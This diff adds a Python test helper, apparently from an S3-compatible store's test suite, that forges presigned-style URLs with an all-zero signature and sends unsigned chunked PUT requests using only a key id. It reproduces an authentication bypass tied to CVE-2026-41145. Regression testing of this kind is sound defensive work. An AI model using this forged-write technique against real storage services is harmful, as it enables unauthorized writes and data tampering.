@@ -1,0 +1,64 @@
+"""Writes that nobody signed: what somebody can send to a store who knows a key id, and no secret."""
+
+import base64
+import zlib
+from collections.abc import Mapping
+from datetime import UTC, datetime
+from urllib.parse import quote, urlencode
+
+import urllib3
+
+from tests.builders import Answer
+
+Params = Mapping[str, str] | None
+UNSIGNED = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
+
+
+def forged_url(
+    endpoint: str, bucket: str, object_key: str, key_id: str, params: Mapping[str, str] | None = None
+) -> str:
+    """As a presigned URL looks, with a signature of zeros."""
+    now = datetime.now(UTC)
+    query = {
+        "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
+        "X-Amz-Credential": f"{key_id}/{now:%Y%m%d}/us-east-1/s3/aws4_request",
+        "X-Amz-Date": f"{now:%Y%m%dT%H%M%SZ}",
+        "X-Amz-Expires": "60",
+        "X-Amz-SignedHeaders": "host",
+        "X-Amz-Signature": "0" * 64,
+        **(params or {}),
+    }
+    return f"{endpoint}/{bucket}/{quote(object_key)}?{urlencode(query)}"
+
+
+def streaming(body: bytes) -> dict[str, str]:
+    """The headers that say that the body is sent in chunks, unsigned, with a checksum behind it (CVE-2026-41145)."""
+    return {
+        "content-type": "audio/mpeg",
+        "content-encoding": "aws-chunked",
+        "x-amz-content-sha256": UNSIGNED,
+        "x-amz-decoded-content-length": str(len(body)),
+        "x-amz-trailer": "x-amz-checksum-crc32",
+    }
+
+
+def chunked(body: bytes) -> bytes:
+    """The body as these headers announce it."""
+    digest = base64.b64encode(zlib.crc32(body).to_bytes(4, "big"))
+    return b"%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n" % (len(body), body, digest)
+
+
+def forge(
+    endpoint: str,
+    bucket: str,
+    object_key: str,
+    key_id: str,
+    body: bytes,
+    params: Params = None,
+    headers: Mapping[str, str] | None = None,
+) -> Answer:
+    """The answer to a write by the key id alone; `headers` are sent beside those of the streaming."""
+    url = forged_url(endpoint, bucket, object_key, key_id, params)
+    sent = {**streaming(body), **(headers or {})}
+    found = urllib3.request("PUT", url, body=chunked(body), headers=sent, retries=False, redirect=False, timeout=10)
+    return Answer(found.status, found.data, {name.lower(): value for name, value in found.headers.items()})
